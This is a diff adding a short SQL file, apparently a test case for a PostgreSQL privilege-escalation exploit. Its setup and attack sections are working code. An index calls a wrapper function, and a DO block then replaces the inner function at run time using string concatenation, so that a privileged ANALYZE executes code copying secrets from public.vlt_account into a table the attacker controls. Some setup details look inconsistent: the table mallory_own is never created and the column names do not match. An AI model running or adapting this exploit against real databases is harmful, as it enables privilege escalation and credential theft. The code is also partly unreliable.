@@ -1,0 +1,15 @@
+-- Replaces, by a text made at run time, what a harmless function of an index calls.
+-- wants: read
+-- proof: SELECT public.upkeep_of('mallory_own', 'kept_by_me', 0)
+-- unobserved: what is left to upkeep is looked for only where it would be refused
+-- setup:
+CREATE FUNCTION upkeep_of(name text, filled text, most int) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN EXECUTE format('ANALYZE %I', name); EXECUTE format('SELECT count(*) FROM %I', filled) INTO n; RETURN n > most; END $$;
+CREATE TABLE kept_by_me (t text);
+GRANT ALL ON kept_by_me TO mallory;
+INSERT INTO mallory_own SELECT n FROM generate_series(100, 200) n;
+-- attack:
+CREATE FUNCTION copies() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.kept_by_me SELECT secret FROM public.vlt_account; END $$;
+CREATE FUNCTION inner_one(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN n; END $$;
+CREATE FUNCTION harmless(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.inner_one(n); END $$;
+CREATE INDEX odd ON mallory_own (harmless(id));
+DO $$ BEGIN EXECUTE 'CREATE OR REPLACE FUNCTION inner' || '_one(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS ''BEGIN PERFORM public.copies(); RETURN n; END'''; END $$;
